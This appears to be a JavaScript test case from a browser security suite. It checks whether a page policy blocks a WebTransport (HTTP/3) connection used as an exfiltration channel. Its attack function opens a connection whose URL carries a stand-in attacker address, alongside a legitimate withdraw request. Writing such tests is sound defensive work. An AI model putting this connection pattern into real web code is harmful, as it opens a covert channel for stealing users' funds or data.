// F04: a connection over HTTP/3, whose address and streams carry the attacker.

// The test server speaks no HTTP/3: what shows the theft is that the page holds a connection to where it wants.
export default {
  id: 'F04',
  title: 'WebTransport opened',
  source: 'no incident: the platform',
  level: 'prevented',
  engines: { webkit: 'WebKitGTK has no WebTransport' },
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const transport = new WebTransport(`${a.other.replace('http:', 'https:')}/?to=${a.EVIL}`);
    transport.ready.catch(() => {});
    transport.closed.catch(() => {});
    return typeof transport.createBidirectionalStream;
  },

  async action(a) {
    return (await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: a.GOOD }) })).status;
  },
  stolen: ({ attackResult }) => attackResult === 'function',
  arrived: ({ result }) => result === 200,
  violation: { surface: 'webtransport' },
};
